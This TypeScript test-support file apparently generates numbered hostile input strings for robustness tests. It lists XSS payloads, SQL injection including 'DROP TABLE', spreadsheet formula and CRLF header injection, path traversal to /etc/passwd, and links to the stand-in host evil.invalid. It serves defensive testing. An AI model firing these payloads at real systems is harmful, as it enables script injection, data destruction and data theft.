import type { Random } from '#tests/support/torture/prove.ts';

/** Hostile markup. `N` stands for the number of the string. */
const markup: [string, ...string[]] = [
  '<script>pwned(N)</script>',
  '"><script>pwned(N)</script>',
  "'><img src=x onerror=pwned(N)>",
  '</script><script>pwned(N)</script>',
  '</title><x-pwned id=N>',
  '</textarea><x-pwned id=N>',
  '--><x-pwned id=N><!--',
  ']]><x-pwned id=N>',
  '<svg/onload=pwned(N)>',
  '<svg><animate onbegin=pwned(N) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned(N)>',
  '<iframe srcdoc="<script>parent.pwned(N)</script>">',
  '<object data=javascript:pwned(N)>',
  '<a href=javascript:pwned(N)>N</a>',
  '<form action=//evil.invalid/N><button>N',
  '<base href=//evil.invalid/N/>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/N">',
  '<link rel=stylesheet href=//evil.invalid/N>',
  '<style>@import "//evil.invalid/N"</style>',
  '" onmouseover=pwned(N) autofocus onfocus=pwned(N) x="',
  "' style='background:url(//evil.invalid/N)'",
  'javascript:pwned(N)',
  'data:text/html,<script>pwned(N)</script>',
  '//evil.invalid/N',
  '\\\\evil.invalid\\N',
  '{{constructor.constructor("pwned(N)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as such.
  '${pwned(N)}',
  '<%= pwned(N) %>',
  '#{pwned(N)}',
  '[[$pwned]]N',
  '</x-turbo>["SanitizedError",N]',
  '[["P",N],{"_1":2}]',
  '{"__proto__":{"pwned":N}}',
];
const otherInjections: [string, ...string[]] = [
  "' OR 1=1 -- N",
  "'; DROP TABLE orders; -- N",
  "\\'; select pg_sleep(9) --N",
  '%_%N',
  '=HYPERLINK("//evil.invalid/N")',
  '+N|cmd',
  '@SUM(N)',
  'N\r\nBcc: everybody@evil.invalid',
  'N\r\n.\r\nMAIL FROM:<x@evil.invalid>',
  'N\r\n\r\nHTTP/1.1 200 OK',
  '=?utf-8?q?N_encoded?=',
  'N","level":"fatal","forged":"',
  'N\n{"level":"fatal","forged":true}',
  '\u001b[31mN\u001b[0m',
  'N)) Tj ET (( %PDF',
  '/JavaScript (pwned N) /URI (//evil.invalid)',
  '../../../../etc/passwd N',
  'N%00%0d%0a%2e%2e%2f',
  '\u202eN evil\u202c',
  'N\u2028pwned\u2029',
  'N\u200b\u200d\ufeff\u2060',
  'N\ud800 lone',
  'N \u2066\u2067\u202blive\u2069',
  '\u200fN\u061c\u115f\u3164',
  'ေအာင္N ျမန္မာ မောင်',
  '၁႒N٤５๖',
  `N${'က္ကျွှေါ်'.repeat(12)}`,
  `N${'\ufdfa'.repeat(60)}`,
  'N 👨‍👩‍👧‍👦🏴‍☠️',
  'ကြွေN်ျြွှေါ့း',
  'Ň̷̢̗Ǹ̶̙ zalgo',
  'N ﷽ ﷽',
  'NaN N',
  'undefined N',
  '[object Object] N',
  '__proto__ N',
];

/** The longest text that fits into the name of an item together with its number. */
const LONGEST = 114;

/** `count` different strings, each with its number in it: the known kinds in any order, then two of them joined by chance. */
export function hostileStrings(count: number, random: Random): string[] {
  const kinds = random.shuffled([...markup, ...otherInjections]);
  const numbered = (kind: string, n: number) => kind.replaceAll('N', String(1_000 + n));
  const joined = (n: number): string => {
    const text = numbered(random.pick(markup) + random.pick(otherInjections), n);
    return text.length <= LONGEST ? text : joined(n);
  };
  return Array.from({ length: count }, (_, n) => (kinds[n] ? numbered(kinds[n], n) : joined(n)));
}
